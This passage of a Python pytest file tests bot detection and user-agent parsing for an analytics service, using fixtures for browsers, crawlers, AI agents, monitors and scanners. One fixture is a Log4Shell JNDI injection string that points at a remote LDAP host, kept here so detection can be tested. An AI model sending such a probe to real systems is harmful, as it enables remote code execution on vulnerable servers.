"""Tier-1 bot verdicts and device/browser/OS parsing on real user agents (no database needed)."""

from __future__ import annotations

import pytest
from crawlerdetect import CrawlerDetect

from analytics.errors import InvalidArgument
from analytics.traffic.agents import (
    HUMAN,
    MAX_TENANT_PATTERNS,
    AgentProfile,
    BotPatternError,
    BotReason,
    BotVerdict,
    DeviceType,
    describe_agent,
    is_bot,
    lacks_browser_token,
    validate_bot_patterns,
)
from analytics.traffic.bot_lists import source_counts

CHROME_WINDOWS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                  "Chrome/131.0.0.0 Safari/537.36")
EDGE_WINDOWS = CHROME_WINDOWS + " Edg/131.0.2903.51"
FIREFOX_WINDOWS = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0"
SAFARI_MAC = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
              "Version/18.1 Safari/605.1.15")
CHROME_MAC = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
              "Chrome/131.0.0.0 Safari/537.36")
FIREFOX_UBUNTU = "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0"
CHROME_OS = ("Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
             "Chrome/130.0.0.0 Safari/537.36")
OPERA_WINDOWS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                 "Chrome/130.0.0.0 Safari/537.36 OPR/115.0.0.0")
SAFARI_IPHONE = ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                 "Version/18.1 Mobile/15E148 Safari/604.1")
CHROME_IPHONE = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                 "CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1")
CHROME_ANDROID = ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
                  "Chrome/131.0.0.0 Mobile Safari/537.36")
SAMSUNG_ANDROID = ("Mozilla/5.0 (Linux; Android 14; SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36")
FIREFOX_ANDROID = "Mozilla/5.0 (Android 14; Mobile; rv:133.0) Gecko/133.0 Firefox/133.0"
FACEBOOK_IN_APP = ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Mobile/15E148 [FBAN/FBIOS;FBAV/485.0.0.41.107;FBBV/649567000]")
INSTAGRAM_ANDROID = ("Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP2A.240905.003; wv) AppleWebKit/537.36 "
                     "(KHTML, like Gecko) Version/4.0 Chrome/130.0.6723.86 Mobile Safari/537.36 Instagram "
                     "354.0.0.50.107 Android")
SAFARI_IPAD = ("Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
               "Version/17.6 Mobile/15E148 Safari/604.1")
GALAXY_TAB = ("Mozilla/5.0 (Linux; Android 14; SM-X710) AppleWebKit/537.36 (KHTML, like Gecko) "
              "Chrome/131.0.0.0 Safari/537.36")
FIREFOX_ANDROID_TABLET = "Mozilla/5.0 (Android 14; Tablet; rv:133.0) Gecko/133.0 Firefox/133.0"
KINDLE_FIRE = ("Mozilla/5.0 (Linux; U; Android 4.0.3; en-us; KFTT Build/IML74K) AppleWebKit/537.36 (KHTML, like "
               "Gecko) Silk/3.68 like Chrome/39.0.2171.93 Safari/537.36")
SAMSUNG_TV = ("Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/4.0 "
              "Chrome/76.0.3809.146 TV Safari/537.36")
FIRE_TV = ("Mozilla/5.0 (Linux; Android 9; AFTMM) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 "
           "Safari/537.36")
XBOX = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/130.0.0.0 Safari/537.36 Edge/44.18363.8131")

ORDINARY_BROWSERS = [CHROME_WINDOWS, EDGE_WINDOWS, FIREFOX_WINDOWS, SAFARI_MAC, CHROME_MAC, FIREFOX_UBUNTU,
                     CHROME_OS, OPERA_WINDOWS, SAFARI_IPHONE, CHROME_IPHONE, CHROME_ANDROID, SAMSUNG_ANDROID,
                     FIREFOX_ANDROID, FACEBOOK_IN_APP, INSTAGRAM_ANDROID, SAFARI_IPAD, GALAXY_TAB, KINDLE_FIRE,
                     SAMSUNG_TV, XBOX]

# (user agent, reason code, "source: token" that decided it). ChatGPT-User and Perplexity-User fetch for a
# person (ua_ai_agent, split from ua_ai_crawler); link previews have their own kind (ua_link_preview).
KNOWN_BOTS = [
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "ua_crawler",
     "device-detector: Googlebot"),
    ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
     "ua_crawler", "device-detector: Googlebot"),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "ua_crawler",
     "device-detector: bingbot"),
    ("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", "ua_crawler", "device-detector: DuckDuckBot"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot",
     "ua_ai_agent", "analytics: ChatGPT-User"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; GPTBot/1.2; +https://openai.com/gptbot",
     "ua_ai_crawler", "analytics: GPTBot"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; OAI-SearchBot/1.0; "
     "+https://openai.com/searchbot", "ua_ai_crawler", "analytics: OAI-SearchBot"),
    ("Claude-Web/1.0 (web crawler; +https://www.anthropic.com/; claude-web@anthropic.com)",
     "ua_ai_crawler", "analytics: Claude-Web"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
     "ua_ai_crawler", "analytics: ClaudeBot"),
    ("anthropic-ai", "ua_ai_crawler", "analytics: anthropic-ai"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; "
     "+https://perplexity.ai/perplexitybot)", "ua_ai_crawler", "analytics: PerplexityBot"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Perplexity-User/1.0; "
     "+https://perplexity.ai/perplexity-user)", "ua_ai_agent", "analytics: Perplexity-User"),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "ua_seo_tool", "analytics: Ahrefs"),
    ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", "ua_seo_tool",
     "analytics: Semrush"),
    ("Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", "ua_seo_tool", "analytics: MJ12bot"),
    ("Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
     "ua_seo_tool", "analytics: DotBot"),
    ("rogerbot/1.0 (http://moz.com/help/pro/what-is-rogerbot-, rogerbot-crawler+shiny@moz.com)",
     "ua_seo_tool", "analytics: rogerbot"),
    ("python-requests/2.32.3", "ua_http_library", "analytics: python-requests/"),
    ("python-httpx/0.27.2", "ua_http_library", "analytics: python-httpx/"),
    ("Python/3.12 aiohttp/3.10.5", "ua_http_library", "analytics: Python/"),
    ("curl/8.7.1", "ua_http_library", "analytics: curl/"),
    ("Wget/1.21.4", "ua_http_library", "analytics: Wget/"),
    ("Go-http-client/2.0", "ua_http_library", "analytics: Go-http-client/"),
    ("axios/1.7.7", "ua_http_library", "analytics: axios/"),
    ("node", "ua_http_library", "analytics: node"),
    ("okhttp/4.12.0", "ua_http_library", "analytics: okhttp/"),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.6778.69 "
     "Safari/537.36", "ua_headless", "analytics: Headless"),
    ("Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1",
     "ua_headless", "analytics: PhantomJS"),
    # A link-preview crawler naming its HTTP library is still a link preview, not a library.
    ("LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
     "ua_link_preview", "analytics: LinkedInBot"),
    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
     "ua_link_preview", "analytics: facebookexternalhit"),
]

# The kinds the issue found missed, one real agent each: (user agent, reason code, token).
MISSED_KINDS = [
    # webhooks and SaaS integrations
    ("GitHub-Hookshot/8f1b2c4", "ua_service_agent", "GitHub-Hookshot"),
    ("Stripe/1.0 (+https://stripe.com/docs/webhooks)", "ua_service_agent", "Stripe/1.0"),
    ("Shopify-Captain-Hook", "ua_service_agent", "Shopify-Captain-Hook"),
    ("Zapier", "ua_service_agent", "Zapier"),
    # uptime and synthetic monitors
    ("Amazon-Route53-Health-Check-Service (ref 8f0f2a9e-6a3e-4c7f-9b0e-4b0d0f6a3c2e; report http://amzn.to/1vsZADi)",
     "ua_monitor", "Route53-Health-Check"),
    ("Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; AppInsights)", "ua_monitor", "AppInsights"),
    ("Mozilla/5.0 (compatible; Cloudflare-Traffic-Manager/1.0; +https://www.cloudflare.com/traffic-manager/; "
     "pool-id: 9a1b2c3d4e5f6a7b)", "ua_monitor", "Traffic-Manager"),
    ("Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "ua_monitor", "UptimeRobot"),
    # SEO and compliance auditors
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
     "Safari/537.36 (compatible; Sitebulb/6.5)", "ua_seo_tool", "Sitebulb"),
    ("Mozilla/5.0 (compatible; Cookiebot/1.0; +http://cookiebot.com/)", "ua_seo_tool", "Cookiebot"),
    # security and certificate scanners, Log4Shell probes
    ("${jndi:ldap://198.51.100.7:1389/Exploit}", "ua_security_scanner", "${jndi:"),
    ("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "ua_security_scanner",
     "CensysInspect"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 "
     "Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "ua_security_scanner",
     "Nuclei"),
    ("SSLLabs/1.0", "ua_security_scanner", "SSLLabs"),
    # AI agents and crawlers the project's list named but only labelled after crawlerdetect matched
    ("meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
     "ua_ai_crawler", "meta-externalagent"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityUser/1.0; "
     "+https://perplexity.ai/perplexity-user)", "ua_ai_agent", "PerplexityUser"),
    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/135.0.0.0 Mobile "
     "Safari/537.36 (compatible; Gemini-Deep-Research; +https://gemini.google/overview/deep-research/)",
     "ua_ai_agent", "Gemini-Deep-Research"),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/132.0.0.0 Safari/537.36 "
     "Manus/1.0 (+https://manus.im)", "ua_ai_agent", "Manus/"),
    ("Devin/1.0 (+https://devin.ai)", "ua_ai_agent", "Devin/"),
    # feed and fediverse fetchers
    ("http.rb/5.1.1 (Mastodon/4.2.10; +https://mastodon.social/)", "ua_feed_fetcher", "Mastodon/"),
    ("Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers)", "ua_feed_fetcher", "Feedly"),
    ("Pleroma 2.6.2; https://example.social <admin@example.social>", "ua_feed_fetcher", "Pleroma"),
    # archive and research crawlers
    ("Mozilla/5.0 (compatible; archive.org_bot +http://archive.org/details/archive.org_bot)", "ua_archiver",
     "archive.org_bot"),
    ("Mozilla/5.0 (compatible; heritrix/3.4.0 +https://www.webarchive.org.uk/)", "ua_archiver", "heritrix"),
    # link previews and media proxies
    ("Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", "ua_link_preview", "Discordbot"),
    ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "ua_link_preview", "Slackbot-LinkExpanding"),
    ("Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)",
     "ua_link_preview", "GoogleImageProxy"),
    ("WhatsApp/2.23.20.0 A", "ua_link_preview", "WhatsApp/2.23.20.0 A"),
    # Playwright, Selenium and bare Electron shells
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.33 Safari/537.36 "
     "Playwright/1.49.0", "ua_headless", "Playwright"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
     "Safari/537.36 Selenium/4.16.0 (python windows)", "ua_headless", "Selenium"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.291 "
     "Electron/28.3.3 Safari/537.36", "ua_headless", "(KHTML, like Gecko) Chrome/120.0.6099.291 Electron/"),
    # plain crawlers the lists name only inside a browser-looking agent
    ("Mozilla/5.0 (Linux; Android 8.0; Pixel 2 Build/OPD3.170816.012; Storebot-Google/1.0) AppleWebKit/537.36 "
     "(KHTML, like Gecko) Chrome/81.0.4044.138 Mobile Safari/537.36", "ua_crawler", "Storebot-Google"),
]

# Real clients some list gets wrong (allow rules): every false positive the issue found.
REAL_CLIENTS = [
    "Microsoft Office Word 2014",
    "Word/15.22.506 (Mac OS/10.11.5; Desktop; en-US; NonAppStore; Apple/MacBookAir7,1)",
    "Mozilla/4.0 (compatible; ms-office; MSOffice 16)",
    "OneNote/16.0.14326.20404 (Windows/10.0; Desktop x64; en-US; Desktop app; Dell Inc./XPS 15 9500)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17126; Pro)",
    "Mail/3731.600.7 CFNetwork/1408.0.4 Darwin/22.5.0",
    "WhatsApp/2.18.79 Android/5.1 Device/Meizu-MX5",
    "Podcast Addict - v2024.3 - Dalvik/2.1.0 (Linux; U; Android 14; SM-S918B Build/UP1A.231005.007)",
    "PodcastAddict/v5 (Linux; U; Android 12; SM-A525F Build/SP1A.210812.016)",
    "VLC/3.0.20 LibVLC/3.0.20",
    "AndroidDownloadManager/13 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)",
    "Mozilla/5.0 (Linux; arm_64; Android 11; SM-M625F) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/92.0.4515.159 BroPP/1.0 SA/3 YaSearchBrowser/21.81.1 YaApp_Android/21.81.1 Zen/21.81.1 "
    "Mobile Safari/537.36",
    "com.google.android.apps.searchlite/101032 (Linux; U; Android 8.1.0; ru_RU; M580; Build/O11019; "
    "Cronet/74.0.3729.182)",
    "TikTok 17.8.1 rv:178102 (iPhone; iOS 14.1; ja_JP) Cronet",
    "Mozilla/5.0 (Linux; Android 9; C Bot Tab 70 Build/PPR1.180610.011) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.6099.144 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 8.1.0; XBot Junior) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/87.0.4280.101 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 8.1.0; XBot_Senior Build/O11019) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/65.0.3325.109 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; Panasonic_ELUGA_C) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/89.0.4389.105 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; ZTE A2020 SP Build/QKQ1.200913.002; wv) AppleWebKit/537.36 (KHTML, like "
    "Gecko) Version/4.0 Chrome/68.0.3440.106 Mobile Safari/537.36 SogouMSE,SogouMobileBrowser/5.28.2",
    # A TV's HbbTV segment names its brand (BOTECH); an Android locale written without its space.
    "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 "
    "Safari/537.36 HbbTV/1.6.1 (+DRM; LGE/KTC/BOTECH; 58BSE9503; WEBOS22 04.42.26; W22_K8LP; DTV_C22P;)",
    "Mozilla/5.0 (Linux; U; Android 2.3;en-us; ViewSonic-ViewPad7e build/ERE27) AppleWebKit/533.1 "
    "(KHTML, like Gecko) Version/4.0 Mobile Safari/533.1",
    # An Electron app that names itself is an app; a bare Electron shell is ua_headless (MISSED_KINDS).
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) GitHubDesktop/3.4.9 "
    "Chrome/128.0.6613.186 Electron/32.2.6 Safari/537.36",
]


@pytest.mark.parametrize("agent", ORDINARY_BROWSERS)
def test_ordinary_browsers_are_not_bots(agent: str) -> None:
    assert is_bot(agent) == HUMAN
    assert describe_agent(agent).device_type is not DeviceType.BOT


@pytest.mark.parametrize(("agent", "reason", "matched"), KNOWN_BOTS)
def test_known_bots_are_flagged_with_their_kind(agent: str, reason: str, matched: str) -> None:
    assert is_bot(agent) == BotVerdict(is_bot=True, reason_code=BotReason(reason), matched=matched)
    assert describe_agent(agent).device_type is DeviceType.BOT


@pytest.mark.parametrize(("agent", "reason", "token"), MISSED_KINDS)
def test_every_kind_the_lists_missed_is_flagged_and_named(agent: str, reason: str, token: str) -> None:
    verdict = is_bot(agent)
    assert (verdict.is_bot, verdict.reason_code) == (True, BotReason(reason))
    assert verdict.matched is not None and verdict.matched.endswith(f": {token}")


@pytest.mark.parametrize("agent", REAL_CLIENTS)
def test_real_clients_the_lists_get_wrong_are_allowed(agent: str) -> None:
    assert is_bot(agent) == HUMAN
    assert not lacks_browser_token(agent)


@pytest.mark.parametrize("agent", [
    "Microsoft Office Word 2014 Googlebot/2.1",
    "VLC/3.0.20 LibVLC/3.0.20 (compatible; AcmeSpider/1.0)",
    "Mozilla/5.0 (Linux; Android 8.1.0; XBot Junior) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/87.0.4280.101 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
])
def test_an_allow_rule_never_rescues_an_explicit_crawler_token(agent: str) -> None:
    assert is_bot(agent).is_bot


def test_each_maintained_list_is_a_source_of_its_own() -> None:
    assert is_bot("Mozilla/5.0 (compatible; Qwantbot/1.0; +https://help.qwant.com/bot/)").matched in (
        "device-detector: Qwantbot", "crawler-user-agents: Qwantbot")
    assert is_bot("Mozilla/5.0 (compatible; Yeti/1.1; +http://naver.me/spd)").matched == "device-detector: Yeti"
    # crawler-user-agents files VS Code's and Trae's agents under browser automation (their AI agents'
    # fetches): the maintained list decides, no allow rule second-guesses a kind that specific.
    assert is_bot("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                  "Code/1.95.3 Chrome/128.0.6613.186 Electron/32.2.6 Safari/537.36") == BotVerdict(
        is_bot=True, reason_code=BotReason.HEADLESS, matched="crawler-user-agents: Code/1.")
    counts = source_counts()
    assert set(counts) == {"device-detector", "crawler-user-agents", "crawlerdetect"}
    assert all(used > 500 and skipped == 0 for used, _, skipped in counts.values())


@pytest.mark.parametrize(("agent", "bare"), [
    ("AcmeSync/2.1", True),
    ("Internal-Reporter", True),
    (CHROME_WINDOWS, False),
    ("Dalvik/2.1.0 (Linux; U; Android 14; SM-S921B Build/UP1A.231005.007)", False),
    ("curl/8.7.1", False),  # tier 1 already names it
    ("", False),
    # Devices the parser knows although they send no browser token: a feature phone, a speaker.
    ("Nokia2700c-2/2.0 (07.15) Profile/MIDP-2.1 Configuration/CLDC-1.1", False),
    ("Linux UPnP/1.0 Sonos/53.2-70100 (ZPS9)", False),
    # Apps that name their platform or device stack instead of a browser.
    ("Procast (iOS)", False),
    ("Garmin Forerunner 945/13.0", False),
    ("GOGGalaxyClient/2.0.20.39 (GOG Galaxy) 83b6745cff679691b69876bc7ee33e05e5d90bda (win10 x64)", False),
    ("Quorbit/2.0", True),
])
def test_bare_product_names_are_a_tier_three_suspicion(agent: str, bare: bool) -> None:
    assert lacks_browser_token(agent) is bare
    if bare:
        assert is_bot(agent) == HUMAN


@pytest.mark.parametrize("agent", [None, "", "   "])
def test_an_empty_user_agent_is_a_bot(agent: str | None) -> None:
    assert is_bot(agent) == BotVerdict(is_bot=True, reason_code=BotReason.EMPTY, matched=None)
    assert describe_agent(agent) == AgentProfile(DeviceType.BOT, "Other", None, "Other", None)


def test_every_agent_crawlerdetect_flags_is_still_flagged_but_its_false_positives() -> None:
    """crawlerdetect is one of the sources: what it flags stays flagged, except the allow rules."""
    agents = ORDINARY_BROWSERS + [agent for agent, _, _ in KNOWN_BOTS]
    assert [is_bot(agent).is_bot for agent in agents if CrawlerDetect().is_crawler(agent)] == [
        True for agent in agents if CrawlerDetect().is_crawler(agent)]
    assert not any(CrawlerDetect().is_crawler(agent) for agent in ORDINARY_BROWSERS)
    c_bot_tab = next(agent for agent in REAL_CLIENTS if "C Bot Tab" in agent)
    assert CrawlerDetect().is_crawler(c_bot_tab) and is_bot(c_bot_tab) == HUMAN
    # The one pattern RE2 cannot express ("Yandex(?!Search)") still decides both ways.
    assert is_bot("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)").is_bot
    assert is_bot("Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
                  "Chrome/130.0.0.0 YandexSearch/24.101 Mobile Safari/537.36") == HUMAN


@pytest.mark.parametrize(("agent", "profile"), [
    (CHROME_WINDOWS, AgentProfile(DeviceType.DESKTOP, "Chrome", "131", "Windows", "10")),
    (EDGE_WINDOWS, AgentProfile(DeviceType.DESKTOP, "Edge", "131", "Windows", "10")),
    (FIREFOX_WINDOWS, AgentProfile(DeviceType.DESKTOP, "Firefox", "133", "Windows", "10")),
    (SAFARI_MAC, AgentProfile(DeviceType.DESKTOP, "Safari", "18", "Mac OS X", "10")),
    (FIREFOX_UBUNTU, AgentProfile(DeviceType.DESKTOP, "Firefox", "132", "Ubuntu", None)),
    (CHROME_OS, AgentProfile(DeviceType.DESKTOP, "Chrome", "130", "Chrome OS", "14541")),
    (OPERA_WINDOWS, AgentProfile(DeviceType.DESKTOP, "Opera", "115", "Windows", "10")),
    (SAFARI_IPHONE, AgentProfile(DeviceType.MOBILE, "Mobile Safari", "18", "iOS", "18")),
    (CHROME_IPHONE, AgentProfile(DeviceType.MOBILE, "Chrome Mobile iOS", "131", "iOS", "17")),
    (CHROME_ANDROID, AgentProfile(DeviceType.MOBILE, "Chrome Mobile", "131", "Android", "10")),
    (SAMSUNG_ANDROID, AgentProfile(DeviceType.MOBILE, "Samsung Internet", "26", "Android", "14")),
    (FIREFOX_ANDROID, AgentProfile(DeviceType.MOBILE, "Firefox Mobile", "133", "Android", "14")),
    (FACEBOOK_IN_APP, AgentProfile(DeviceType.MOBILE, "Facebook", "485", "iOS", "18")),
    (SAFARI_IPAD, AgentProfile(DeviceType.TABLET, "Mobile Safari", "17", "iOS", "17")),
    (GALAXY_TAB, AgentProfile(DeviceType.TABLET, "Chrome", "131", "Android", "14")),
    (FIREFOX_ANDROID_TABLET, AgentProfile(DeviceType.TABLET, "Firefox Mobile", "133", "Android", "14")),
    (KINDLE_FIRE, AgentProfile(DeviceType.TABLET, "Amazon Silk", "3", "Android", "4")),
    (SAMSUNG_TV, AgentProfile(DeviceType.OTHER, "Samsung Internet", "4", "Tizen", "6")),
    (FIRE_TV, AgentProfile(DeviceType.OTHER, "Chrome", "130", "Android", "9")),
    (XBOX, AgentProfile(DeviceType.OTHER, "Edge", "44", "Windows", "10")),
    ("python-requests/2.32.3", AgentProfile(DeviceType.BOT, "Python Requests", "2", "Other", None)),
])
def test_device_type_browser_and_os(agent: str, profile: AgentProfile) -> None:
    assert describe_agent(agent) == profile


def test_tenant_patterns_are_substrings_or_slashed_regexes_ignoring_case() -> None:
    rules = ["acme-qa", r"/^InternalReporter\/\d+$/"]
    assert is_bot(CHROME_WINDOWS + " ACME-QA/2.0", rules) == BotVerdict(
        is_bot=True, reason_code=BotReason.TENANT_RULE, matched="acme-qa")
    assert is_bot("internalreporter/12", rules) == BotVerdict(
        is_bot=True, reason_code=BotReason.TENANT_RULE, matched=r"/^InternalReporter\/\d+$/")
    assert is_bot("InternalReporter/12 (extra)", rules) == HUMAN  # anchored: the regex is honoured
    assert is_bot(CHROME_WINDOWS, rules) == HUMAN


def test_library_verdict_comes_before_a_tenant_rule() -> None:
    assert is_bot("curl/8.7.1", ["curl"]).reason_code is BotReason.HTTP_LIBRARY
    assert is_bot("AcmeSync/2.1", ["acmesync"]) == BotVerdict(
        is_bot=True, reason_code=BotReason.TENANT_RULE, matched="acmesync")


@pytest.mark.parametrize(("pattern", "message"), [
    ("   ", "bot_patterns: pattern '' is empty"),
    ("/(unclosed/", "bot_patterns: pattern '/(unclosed/' is not a valid RE2 regular expression: "
                    "missing ): (unclosed"),
    ("/(?<=bot)x/", "bot_patterns: pattern '/(?<=bot)x/' is not a valid RE2 regular expression: "
                    "invalid perl operator: (?<="),
    ("/.*/", "bot_patterns: pattern '/.*/' matches every user agent"),
    ("Mozilla", "bot_patterns: pattern 'Mozilla' matches ordinary browsers (Chrome, Safari or Firefox)"),
    ("/safari/", "bot_patterns: pattern '/safari/' matches ordinary browsers (Chrome, Safari or Firefox)"),
    ("x" * 201, f"bot_patterns: pattern '{'x' * 201}' is longer than 200 characters"),
])
def test_bad_tenant_patterns_are_refused_by_name(pattern: str, message: str) -> None:
    with pytest.raises(BotPatternError) as caught:
        validate_bot_patterns(["good-bot", pattern])
    assert str(caught.value) == message
    with pytest.raises(BotPatternError):
        is_bot("anything", [pattern])


def test_pattern_validation_returns_the_trimmed_patterns_and_caps_their_number() -> None:
    assert validate_bot_patterns([" acme-uptime ", "/^probe/"]) == ("acme-uptime", "/^probe/")
    assert validate_bot_patterns(["x" * 200]) == ("x" * 200,)
    assert len(validate_bot_patterns([f"bot-{n}" for n in range(MAX_TENANT_PATTERNS)])) == MAX_TENANT_PATTERNS
    with pytest.raises(InvalidArgument, match="at most 100 patterns, got 101"):
        validate_bot_patterns([f"bot-{n}" for n in range(MAX_TENANT_PATTERNS + 1)])


def test_a_user_agent_longer_than_the_limit_is_judged_on_its_first_1024_characters() -> None:
    assert is_bot(CHROME_WINDOWS + " " * 2000 + "Googlebot") == HUMAN
    assert is_bot("x" * 1000 + " Googlebot/2.1").is_bot


@pytest.mark.parametrize(("agent", "reason", "shown"), [
    ("Zorblat Prober 0.3", BotReason.SECURITY_SCANNER, "Prober"),
    ("Quux Screenshot Service/1.2", BotReason.LINK_PREVIEW, "Screenshot"),
    ("Blorp Harvester/4", BotReason.CRAWLER, "Harvester"),
    ("Grobnik/1.0 (+https://grobnik.example/about)", BotReason.CRAWLER, "+https://"),
    ("Plonk/2.0 (ops@plonk.example)", BotReason.CRAWLER, "ops@plonk.example"),
])
def test_agents_no_list_names_are_judged_by_generic_signs(agent: str, reason: BotReason, shown: str) -> None:
    assert is_bot(agent) == BotVerdict(is_bot=True, reason_code=reason, matched=f"analytics (generic): {shown}")


@pytest.mark.parametrize(("agent", "reason", "shown"), [
    # Words away from a phone or Apple platform (GENERIC_OFF_DEVICE), one per kind; names no list knows.
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
     "Safari/537.36 ZorblatScan/3.0", BotReason.SECURITY_SCANNER, "tScan"),
    ("Plinkwell DCV/1.1", BotReason.SECURITY_SCANNER, "DCV"),
    ("Quorbit-diagnostics", BotReason.MONITOR, "diagnostics"),
    ("Grobnik Image Audit", BotReason.SEO_TOOL, "Audit"),
    ("Plonk API Client/2.0.1", BotReason.SERVICE_AGENT, "API Client"),
    ("Quux Hostname Verification", BotReason.SERVICE_AGENT, "Verification"),
    ("Blorp HttpClient/Native", BotReason.HTTP_LIBRARY, "HttpClient"),
    ("{{.grobnik_agent}}", BotReason.HTTP_LIBRARY, "{{"),
    ("Zorblat Measurement/0.4", BotReason.CRAWLER, "Measurement"),
    # A name inside the engine's parenthesis (Google's special fetchers do this).
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Quux-Thumbnails) "
